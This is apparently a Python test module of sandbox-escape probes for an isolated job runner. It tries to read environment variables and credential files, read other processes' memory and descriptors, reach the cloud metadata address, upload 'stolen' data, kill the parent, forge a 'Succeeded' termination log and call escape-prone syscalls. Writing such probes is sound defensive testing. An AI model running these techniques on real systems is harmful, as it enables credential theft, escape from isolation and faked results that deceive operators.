"""Attacks on credentials, other processes and other runs."""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import resource
import signal
import socket
import struct
import subprocess
from pathlib import Path

from victim import Attack, tried

Aim = dict[str, str]


def environment(_role: str, _aim: Aim) -> None:
    """Print all that is in any environment."""
    print(json.dumps(dict(os.environ)))
    for pid in [*_near(), "self"]:
        with contextlib.suppress(OSError):
            print(Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace"))
            if pid != "self":
                print("GOT-IN an environment")


def _near() -> list[int]:
    """Return the fork server, the supervisor and siblings: numbers near to this one."""
    own = os.getpid()
    return [pid for pid in range(max(own - 300, 1), own + 50) if pid != own]


def memory(_role: str, _aim: Aim) -> None:
    """Read the memory of processes near to this one."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(0x4206, os.getppid(), 0, 0) == 0:
        print("GOT-IN ptrace")
    for pid in _near():
        for name in ("mem", "maps", "auxv", "stack", "syscall"):
            with contextlib.suppress(OSError), Path(f"/proc/{pid}/{name}").open("rb"):
                print(f"GOT-IN /proc/{pid}/{name}")
        local, remote = struct.pack("QQ", 1 << 20, 16), struct.pack("QQ", 0x400000, 16)
        if libc.process_vm_readv(pid, local, 1, remote, 1, 0) >= 0:
            print(f"GOT-IN process_vm_readv {pid}")


def files(_role: str, aim: Aim) -> None:
    """Read files with credentials, by each way to a file."""
    out = Path(os.environ["TMPDIR"])
    for name in ("token", "profile", "other"):
        path = Path(aim[name])
        link = out / f"{name}-{os.getpid()}"
        tried(f"read {name}", path.read_text)
        tried(f"copy of {name}", lambda p=path: subprocess.check_output(["/bin/cat", str(p)]))
        tried(f"hard link to {name}", lambda p=path, to=link: os.link(p, f"{to}-hard"))
        link.symlink_to(path)
        tried(f"link to {name}", link.read_text)
        with contextlib.suppress(OSError):
            held = os.open(path, os.O_PATH)
            tried(f"open {name} again", lambda h=held: Path(f"/proc/self/fd/{h}").read_text())
        tried(f"move {name}", lambda p=path: p.rename(out / "moved"))


def descriptors(_role: str, _aim: Aim) -> None:
    """Read and write all that was inherited, and all that siblings have open."""
    for entry in list(Path("/proc/self/fd").iterdir()):
        with contextlib.suppress(OSError):
            print(f"inherited {entry.name} {entry.readlink()}")
    for pid in _near():
        for number in range(3, 40):
            path = Path(f"/proc/{pid}/fd/{number}")
            with contextlib.suppress(OSError), path.open("r+b"):
                print(f"GOT-IN descriptor {number} of {pid}")


def network(_role: str, aim: Aim) -> None:
    """Send what it has to anybody: the store, metadata addresses, a resolver, a local socket."""
    address, _, port = aim["endpoint"].rpartition("//")[2].partition(":")
    for host, number in ((address, int(port)), ("169.254.169.254", 80), ("127.0.0.1", 22)):
        tried(f"TCP {host}:{number}", lambda h=host, n=number: socket.create_connection((h, n), 2))
    tried("UDP", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
    tried("IPv6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM))
    tried("raw packets", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
    tried("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))
    tried("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))


def upload(_role: str, aim: Aim) -> None:
    """Put an object into the bucket with the store's own client."""

    def put() -> object:
        import boto3

        client = boto3.client(
            "s3",
            endpoint_url=aim["endpoint"],
            region_name="us-east-1",
            aws_access_key_id="x",
            aws_secret_access_key="x",
        )
        return client.put_object(Bucket=aim["bucket"], Key="stolen", Body=b"stolen")

    with contextlib.suppress(Exception):
        tried("put an object", put)


def signals(_role: str, _aim: Aim) -> None:
    """Stop the fork server, which is outside of the sandbox as the supervisor is, and others."""
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        tried(f"signal {number}", lambda n=number: os.kill(os.getppid(), n))
    for pid in _near():  # number 0 is refused as the others are, and does no harm
        with contextlib.suppress(OSError):
            os.kill(pid, 0)
            print(f"GOT-IN a signal to {pid}")
        with contextlib.suppress(OSError, ValueError):
            resource.prlimit(pid, resource.RLIMIT_NOFILE)
            print(f"GOT-IN limits of {pid}")


def termination(_role: str, aim: Aim) -> None:
    """Write the result that the operator reads, and the log."""
    forged = '{"outcome":"Succeeded"}'
    tried("write the termination log", lambda: Path(aim["termination"]).write_text(forged))
    tried("remove the termination log", lambda: Path(aim["termination"]).unlink())
    tried("the kubelet's path", lambda: Path("/dev/termination-log").write_text(forged))
    tried("write the log", lambda: Path(aim["log"]).write_text(forged))


def kernel(_role: str, _aim: Aim) -> None:
    """Get out by the kernel's other doors."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    numbers = {"unshare": (272, 0x1000_0000), "bpf": (321, 0), "io_uring": (425, 1, 0)}
    numbers |= {"userfaultfd": (323, 0), "perf": (298, 0), "keyctl": (250, 0, -3)}
    numbers |= {"mount": (165, 0), "setns": (308, 0, 0), "kcmp": (312, 1, 2, 0, 0, 0)}
    numbers |= {"pidfd_getfd": (438, 3, 1, 0), "open_by_handle_at": (304, 3, 0, 0)}
    for name, (number, *rest) in numbers.items():
        if libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, rest)) >= 0:
            print(f"GOT-IN {name}")


def other_run(_role: str, aim: Aim) -> None:
    """Write into the directory of another run, and take its lock away."""
    other = Path(aim["other"]).parent
    tried("write into another run", lambda: (other / "model.onnx").write_text("x"))
    tried("link to another run", lambda: os.link(other / "checkpoint", Path(aim["work"]) / "x"))
    tried("remove a lock", (other / "lock").unlink)
    tried("rename another run", lambda: other.rename(other.with_name("gone")))
    tried("write beside", lambda: (Path(aim["outside"]) / "mine").write_text("x"))
    tried("overwrite", lambda: (Path(aim["outside"]) / "there").write_text("x"))


ATTACKS: dict[str, Attack] = {
    "environment": environment,
    "memory": memory,
    "files": files,
    "descriptors": descriptors,
    "network": network,
    "upload": upload,
    "signals": signals,
    "termination": termination,
    "kernel": kernel,
    "other run": other_run,
}
